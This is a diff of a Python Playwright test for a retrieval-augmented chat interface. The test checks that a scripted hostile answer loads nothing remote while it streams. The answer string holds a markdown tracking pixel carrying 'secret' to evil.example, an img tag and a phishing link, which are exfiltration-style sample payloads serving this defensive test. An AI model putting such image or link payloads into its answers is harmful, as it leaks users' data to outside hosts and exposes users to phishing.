@@ -14,9 +14,11 @@ from servers import free_port
 pytestmark = pytest.mark.slow
 CHROMIUM = "/usr/bin/chromium"
 ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"
-HOSTILE = ("Voici la réponse ![suivi](https://evil.example/pixel.png?q=secret) <img src=https://evil.example/i.png> "
-           "[cliquez ici](https://evil.example/phish) https://evil.example/bare et $$x$$ [1]. "
-           "La pêche au thon reprend à Sète [1].")
+HOSTILE = (
+    "Voici la réponse ![suivi](https://evil.example/pixel.png?q=secret) <img src=https://evil.example/i.png> "
+    "[cliquez ici](https://evil.example/phish) https://evil.example/bare et $$x$$ [1]. "
+    "La pêche au thon reprend à Sète [1]."
+)
 
 
 @pytest.fixture(scope="module")
@@ -26,24 +28,36 @@ def browser():
     from playwright.sync_api import sync_playwright
 
     with sync_playwright() as p:
-        b = p.chromium.launch(executable_path=CHROMIUM, headless=True,
-                              args=["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync"])
+        b = p.chromium.launch(
+            executable_path=CHROMIUM,
+            headless=True,
+            args=["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
+        )
         yield b
         b.close()
 
 
 def serve(tmp_path, **settings):
-    from rag import llms
+    from rag.config import load_settings
+    from rag.models import llms
     from rag.pipeline import build
-    from rag.settings import load_settings
     from ui.app import launch
 
     llms.REGISTRY["hostile"] = lambda s: ScriptedLLM(HOSTILE)
     port = free_port()
-    config = {"embedder.backend": "fake", "llm.backend": "hostile", "retrieval.min_relevance": -100.0, "ui.port": port,
-              "data_dir": str(tmp_path / "data"), "models_dir": str(tmp_path / "models"), **settings}
+    config = {
+        "embedder.backend": "fake",
+        "llm.backend": "hostile",
+        "retrieval.min_relevance": -100.0,
+        "ui.port": port,
+        "data_dir": str(tmp_path / "data"),
+        "models_dir": str(tmp_path / "models"),
+        **settings,
+    }
     pipeline = build(load_settings(config, environ={}))
-    pipeline.add_text("La pêche au thon reprend à Sète après la tempête, disent les pêcheurs du port. " * 3, source="Le Petit Port")
+    pipeline.add_text(
+        "La pêche au thon reprend à Sète après la tempête, disent les pêcheurs du port. " * 3, source="Le Petit Port"
+    )
     return launch(pipeline, block=False), f"http://127.0.0.1:{port}/"
 
 
@@ -71,7 +85,10 @@ def test_a_hostile_answer_loads_nothing_remote_while_it_streams(browser, tmp_pat
         assert max(images) == 0
         links = page.eval_on_selector_all("#nd-chat a", "els => els.map(e => e.getAttribute('href'))")
         assert all(h.startswith("#nd-src-") for h in links), links  # only citation chips are links in the answer
-        assert "evil.example" in page.locator("#nd-chat").inner_text() or "ne le disent pas" in page.locator("#nd-chat").inner_text()
+        assert (
+            "evil.example" in page.locator("#nd-chat").inner_text()
+            or "ne le disent pas" in page.locator("#nd-chat").inner_text()
+        )
     finally:
         context.close()
         app.close()
